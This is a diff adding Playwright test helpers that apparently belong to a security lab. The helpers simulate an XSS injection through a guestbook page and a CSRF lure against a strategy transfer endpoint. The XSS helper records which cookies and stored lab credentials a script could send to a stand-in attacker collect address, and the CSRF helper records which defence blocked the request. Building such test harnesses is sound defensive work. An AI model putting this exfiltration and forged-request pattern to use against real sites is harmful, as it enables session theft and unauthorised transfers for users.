@@ -1,0 +1,71 @@
+import type { Page } from '@playwright/test'
+import { z } from 'zod'
+import { payload } from './payload.ts'
+
+/** The strategy under attack, as far as a thief has to know it. */
+interface Aim {
+  base: string
+  strategy: string
+  cookies: readonly { name: string; cookie: string }[]
+}
+
+const lootSchema = z.object({
+  cookies: z.string(),
+  storage: z.record(z.string(), z.string()),
+  status: z.number(),
+})
+const keptSchema = z.record(z.string(), z.string())
+/** The answer's text is kept from another site, and from whoever looks over its shoulder. */
+const reasons: Record<number, string> = {
+  200: 'nothing was in the way',
+  400: 'the browser kept the cookies back, that of the workspace too',
+  401: 'the browser kept the cookies back',
+  403: 'the server saw that it came from another site',
+}
+
+/** The same server under its other name, which to a browser is another site. */
+function attackersSite(base: string): string {
+  const site = new URL(base)
+  site.hostname = 'localhost'
+  return site.origin
+}
+
+/**
+ * A script comes in through the guestbook, which shows the name in its address as markup. What it
+ * sends home says what it could read, and whether its own request was answered.
+ */
+export async function inject(page: Page, { base, strategy, cookies }: Aim) {
+  const home = `${attackersSite(base)}/attacker/collect`
+  // Only the sending matters: nobody is at home.
+  await page.route(home, (route) => route.fulfill({ status: 204 }))
+  const sent = page.waitForRequest(home)
+  const name = payload({ home, transfer: `/api/strategies/${strategy}/transfer` })
+  await page.goto(`${base}/attacker/guestbook.html?${new URLSearchParams({ name })}`)
+  const loot = lootSchema.parse((await sent).postDataJSON())
+  const inCookies = loot.cookies.split('; ').flatMap((pair) => {
+    const [wire = '', value = ''] = pair.split(/=(.*)/s)
+    const found = cookies.find(({ cookie }) => cookie === wire)
+    return found ? [[found.name, value] as const] : []
+  })
+  const inStorage = Object.entries(loot.storage)
+    .filter(([key]) => key.startsWith('lab-credentials ') && key.endsWith(` ${strategy}`))
+    .flatMap(([, value]) => Object.entries(keptSchema.parse(JSON.parse(value))))
+  return { read: Object.fromEntries([...inCookies, ...inStorage]), rode: loot.status === 200 }
+}
+
+/** The victim opens the attacker's page in another tab; what it asks for is answered in the end. */
+export async function lure(page: Page, { base, strategy }: Aim, how: 'form' | 'fetch') {
+  const tab = await page.context().newPage()
+  const target = `${base}/api/strategies/${strategy}/transfer`
+  const query = new URLSearchParams({ strategy, how })
+  const [response] = await Promise.all([
+    tab.waitForResponse(target),
+    // The form leaves the page before it has loaded.
+    tab.goto(`${attackersSite(base)}/attacker/csrf.html?${query}`, { waitUntil: 'commit' }),
+  ])
+  const status = response.status()
+  // A tab that is closed on its way to another page can take the browser with it.
+  if (how === 'form') await tab.waitForURL(target)
+  await tab.close()
+  return { done: status === 200, reason: reasons[status] ?? `status ${status}` }
+}
